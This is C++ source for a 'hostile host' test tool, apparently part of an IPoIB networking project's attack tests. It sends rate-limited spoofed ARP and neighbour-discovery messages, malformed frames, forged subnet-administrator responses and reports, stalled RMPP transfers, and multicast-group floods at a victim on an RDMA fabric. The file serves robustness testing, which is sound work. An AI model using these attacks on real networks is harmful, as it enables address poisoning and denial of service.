// A hostile host on an RDMA device: sends one kind of messages to a victim at a limited rate, with
// its own HCA, which fills in its true LID, GID and QPN. tests/netns/attacks.py starts it.
//
//   hostile_host ATTACK RATE COUNT LID QPN GID QKEY IPV4 NEIGHBOUR-IPV4 IPV6 TID-HIGH-HALF
//
// RATE is in messages per second; LID to IPV6 describe the victim, NEIGHBOUR a host that it talks
// to.
#include <algorithm>
#include <array>
#include <chrono>
#include <cstdio>
#include <exception>
#include <functional>
#include <map>
#include <random>
#include <stdexcept>
#include <string>
#include <string_view>
#include <thread>
#include <vector>

#include "ipoib/log.hpp"
#include "ipoib/number.hpp"
#include "ipoib/pkey_table.hpp"
#include "verbs/device.hpp"
#include "verbs/ud_queue_pair.hpp"
#include "wire/arp.hpp"
#include "wire/encapsulation.hpp"
#include "wire/mad.hpp"
#include "wire/mc_member_record.hpp"
#include "wire/neighbour_discovery.hpp"

namespace ipoib {
namespace {

using std::chrono::steady_clock;
using wire::ArpOperation;
using wire::NdMessage;

constexpr std::uint32_t kMaxMtu = 4096;
constexpr std::size_t kFrames = 1024;
constexpr std::chrono::milliseconds kTurn{5};

template <class T>
T number(std::string_view text) {
  const bool is_hexadecimal = text.starts_with("0x");
  const auto value =
      ipoib::parse_number<T>(is_hexadecimal ? text.substr(2) : text, is_hexadecimal ? 16 : 10);
  if (!value) throw std::runtime_error(std::string(text) + " is no number");
  return *value;
}

struct Victim {
  Lid lid;
  Qpn qpn;
  Gid gid;
  QKey qkey;
  Ipv4Address ipv4;
  Ipv4Address neighbour;
  Ipv6Address ipv6;
  std::uint32_t tid_high_half = 0;  ///< of the victim's requests
};

/// Makes the messages of all attacks. The same ones each time: the generator has a fixed seed.
class Messages {
 public:
  Messages(const Victim& victim, const HwAddress& own) : victim_(victim), own_(own) {}

  /// Requests from new addresses that name GIDs at random, for which the victim would need paths.
  std::size_t random_gids(MutableBytes to) {
    return arp(to, ArpOperation::request, random_address(), with_gid(random_gid()), victim_.ipv4);
  }
  std::size_t random_gids_by_nd(MutableBytes to) {
    return solicitation(to, random_address6(), with_gid(random_gid()));
  }
  /// Requests with its true address from many IP addresses, which differ in a few bits only.
  std::size_t many_addresses(MutableBytes to) {
    Ipv6Address::Bytes bytes = victim_.ipv6.bytes();
    store_be(bytes.data() + 8, std::uint64_t{number_++ % 65536} << 32 | 0x10000);
    return solicitation(to, Ipv6Address(bytes), own_);
  }
  /// Claims that the victim's neighbour is at a queue pair that is not the sender's.
  std::size_t false_qpn(MutableBytes to) {
    HwAddress claimed = own_;
    claimed.qpn = Qpn(own_.qpn.value() ^ 1);
    const auto operation = number_++ % 2 == 0 ? ArpOperation::request : ArpOperation::reply;
    return arp(to, operation, victim_.neighbour, claimed, victim_.ipv4);
  }
  /// The same with another GID than that of the GRH.
  std::size_t false_gid(MutableBytes to) {
    return arp(to, ArpOperation::reply, victim_.neighbour, with_gid(random_gid()), victim_.ipv4);
  }
  std::size_t unsolicited_replies(MutableBytes to) {
    return arp(to, ArpOperation::reply, random_address(), own_, victim_.ipv4);
  }
  std::size_t probes(MutableBytes to) {
    return arp(to, ArpOperation::request, Ipv4Address(), own_, victim_.ipv4);
  }
  std::size_t malformed(MutableBytes to) {
    constexpr std::array kTypes = {wire::EtherType::arp, wire::EtherType::ipv4,
                                   wire::EtherType::ipv6, wire::EtherType::rarp};
    const std::size_t size = wire::kEncapsulationSize + random() % 128;
    for (auto& byte : to.first(size)) byte = static_cast<std::uint8_t>(random());
    if (random() % 8 != 0) wire::emit_encapsulation(kTypes[random() % kTypes.size()], to.data());
    return size;
  }
  /// Reports as if from the SA.
  std::size_t reports(MutableBytes to) {
    return mad(to, wire::method::kReport, wire::attribute::kNotice, {}, random());
  }
  /// Responses as if from the SA, with the half of the transaction id that is not random.
  std::size_t sa_responses(MutableBytes to) {
    const auto tid = std::uint64_t{victim_.tid_high_half} << 32 | random();
    return mad(to, wire::method::kGetResp, wire::attribute::kPathRecord, {}, tid);
  }
  /// First segments of long transfers that never continue.
  std::size_t rmpp_openings(MutableBytes to) {
    wire::RmppHeader first;
    first.type = wire::RmppType::data;
    first.flags = wire::RmppHeader::kActive | wire::RmppHeader::kFirst;
    first.data1 = 1;
    first.data2 = 6'500'000;
    return mad(to, wire::method::kGetTable, wire::attribute::kPathRecord, first, random());
  }
  /// Requests to the SA to create a group, and to join it.
  std::size_t groups(MutableBytes to) {
    using Record = wire::McMemberRecord;
    Record record;
    record.mgid = Gid(0xff12'401b'ffff'0000, Guid(std::uint64_t{random()} << 32 | ++number_));
    record.port_gid = own_.gid;
    record.qkey = victim_.qkey;
    record.pkey = kDefaultPKey;
    record.join_state = Record::kFullMember;
    const auto size =
        mad(to, wire::method::kSet, wire::attribute::kMcMemberRecord, {}, random(),
            Record::kMgid | Record::kPortGid | Record::kQKey | Record::kPKey |
                Record::kTrafficClass | Record::kSl | Record::kFlowLabel | Record::kJoinState);
    record.emit(to.subspan(wire::kSaHeaderSize));
    return size;
  }

 private:
  [[nodiscard]] std::uint32_t random() { return static_cast<std::uint32_t>(generator_()); }
  [[nodiscard]] HwAddress with_gid(const Gid& gid) const { return {0, own_.qpn, gid}; }
  [[nodiscard]] Gid random_gid() {
    return {Gid::kLinkLocalPrefix, Guid(std::uint64_t{random()} << 32 | random())};
  }
  /// Of 10.44.128.0/17.
  [[nodiscard]] Ipv4Address random_address() {
    return Ipv4Address(0x0a2c8000 | (random() & 0x7fff));
  }
  [[nodiscard]] Ipv6Address random_address6() {
    Ipv6Address::Bytes bytes = victim_.ipv6.bytes();
    store_be(bytes.data() + 8, std::uint64_t{random()} << 32 | random());
    return Ipv6Address(bytes);
  }
  static std::size_t arp(MutableBytes to, ArpOperation operation, Ipv4Address sender,
                         const HwAddress& hardware, Ipv4Address target) {
    wire::Arp message;
    message.operation = operation;
    message.sender_hardware = hardware;
    message.sender_protocol = sender;
    message.target_protocol = target;
    wire::emit_encapsulation(wire::EtherType::arp, to.data());
    message.emit(to.subspan(wire::kEncapsulationSize));
    return wire::kEncapsulationSize + wire::Arp::kSize;
  }
  std::size_t solicitation(MutableBytes to, const Ipv6Address& sender, const HwAddress& hardware) {
    NdMessage message;
    message.source = sender;
    message.destination = message.target = victim_.ipv6;
    message.source_link_layer = hardware;
    wire::emit_encapsulation(wire::EtherType::ipv6, to.data());
    return wire::kEncapsulationSize + message.emit(to.subspan(wire::kEncapsulationSize));
  }
  static std::size_t mad(MutableBytes to, std::uint8_t method, std::uint16_t attribute,
                         const wire::RmppHeader& rmpp, std::uint64_t tid,
                         std::uint64_t component_mask = 0) {
    wire::SaHeader header;
    header.mad.management_class = wire::mgmt_class::kSubnAdm;
    header.mad.class_version = 2;
    header.mad.method = method;
    header.mad.attribute_id = attribute;
    header.mad.transaction_id = tid;
    header.rmpp = rmpp;
    header.component_mask = component_mask;
    std::ranges::fill(to.first(wire::kMadSize), std::uint8_t{0});
    header.emit(to);
    return wire::kMadSize;
  }

  const Victim victim_;
  const HwAddress own_;
  std::uint32_t number_ = 0;
  std::mt19937 generator_{1};
};

struct Attack {
  std::size_t (Messages::*make)(MutableBytes);
  bool is_mad = false;
  bool has_grh = false;
  bool is_for_sa = false;  ///< not for the victim
};

const std::map<std::string_view, Attack> kAttacks = {
    {"random-gids", {&Messages::random_gids}},
    {"random-gids-by-nd", {&Messages::random_gids_by_nd}},
    {"many-addresses", {&Messages::many_addresses}},
    {"false-qpn", {&Messages::false_qpn}},
    {"false-gid", {&Messages::false_gid, false, true}},
    {"unsolicited-replies", {&Messages::unsolicited_replies}},
    {"probes", {&Messages::probes}},
    {"malformed", {&Messages::malformed}},
    {"reports", {&Messages::reports, true}},
    {"sa-responses", {&Messages::sa_responses, true}},
    {"rmpp-openings", {&Messages::rmpp_openings, true}},
    {"groups", {&Messages::groups, true, false, true}},
};

verbs::PortSnapshot active_port(const verbs::Device& device) {
  for (;;) {
    const auto port = device.query().value();
    if (port.active) return port;
    std::this_thread::sleep_for(kTurn);
  }
}

/// Sends `count` messages, in turns with as many as the rate permits until then.
void run(const Attack& attack, double rate, std::uint64_t count, const Victim& victim) {
  Logger log("hostile");
  const auto device = verbs::Device::open("", 1).value();
  const auto port = active_port(device);
  const auto partition = find_partition(port.pkeys, kDefaultPKey);
  if (!partition) throw std::runtime_error("the port is not in the default partition");
  FramePool pool(kFrames, kMaxMtu);
  const auto queue_pair = verbs::UdQueuePair::create(device, kMaxMtu, {}, log).value();
  queue_pair->register_pool(pool).value();
  queue_pair->configure({partition->index, attack.is_mad ? wire::kGsiQKey : victim.qkey}).value();
  AddressVector vector;
  vector.dlid = attack.is_for_sa ? port.sm_lid : victim.lid;
  if (attack.has_grh) vector.global = GlobalRoute{.dgid = victim.gid, .hop_limit = kSubnetHopLimit};
  const auto handle = queue_pair->create_address_handle(vector).value();
  Messages messages(victim, {0, queue_pair->qpn(), port.gid});
  std::vector<Incoming> replies;
  const auto begin = steady_clock::now();
  for (std::uint64_t sent = 0; sent < count;) {
    const std::chrono::duration<double> passed = steady_clock::now() - begin;
    const auto due = std::min(count, static_cast<std::uint64_t>(passed.count() * rate));
    while (sent < due) {
      Outgoing message{handle, attack.is_mad ? wire::kGsiQpn : victim.qpn, pool.take()};
      if (!message.frame) break;
      message.frame.window(0, kMaxMtu);
      const auto size = (messages.*attack.make)(message.frame.bytes());
      message.frame.window(0, size);
      if (queue_pair->send({&message, 1}) == 0) break;
      ++sent;
    }
    (void)queue_pair->receive(replies, kFrames);  // and reap the sends
    replies.clear();
    std::this_thread::sleep_for(kTurn);
  }
}

int main_of(const std::vector<std::string>& words) {
  const auto attack = words.empty() ? kAttacks.end() : kAttacks.find(words[0]);
  if (attack == kAttacks.end() || words.size() != 11) {
    std::fputs("usage: see the source\n", stderr);
    return 2;
  }
  const Victim victim{.lid = Lid(number<std::uint16_t>(words[3])),
                      .qpn = Qpn(number<std::uint32_t>(words[4])),
                      .gid = Gid::parse(words[5]).value(),
                      .qkey = QKey(number<std::uint32_t>(words[6])),
                      .ipv4 = Ipv4Address::parse(words[7]).value(),
                      .neighbour = Ipv4Address::parse(words[8]).value(),
                      .ipv6 = Ipv6Address::parse(words[9]).value(),
                      .tid_high_half = number<std::uint32_t>(words[10])};
  run(attack->second, number<unsigned>(words[1]), number<std::uint64_t>(words[2]), victim);
  return 0;
}

}  // namespace
}  // namespace ipoib

int main(int argc, char** argv) {
  try {
    return ipoib::main_of({argv + 1, argv + argc});
  } catch (const std::exception& error) {
    std::fprintf(stderr, "hostile_host: %s\n", error.what());
    return 1;
  }
}
